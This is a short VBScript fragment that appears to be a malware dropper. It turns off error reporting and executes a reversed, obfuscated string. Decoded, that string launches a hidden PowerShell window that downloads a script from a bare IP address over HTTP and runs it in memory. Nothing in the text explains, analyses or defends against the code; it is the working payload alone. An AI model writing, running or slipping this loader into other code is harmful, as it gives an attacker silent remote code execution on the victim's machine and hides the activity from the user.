On Error Resume Next
Execute StrReverse("eslaF ,0 ,"""""")'1sp.a/681.001.15.891//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(XEI"""" c- pon- neddih w- llehsrewop"" nuR.)""llehS.tpircSW""(tcejbOetaerC")
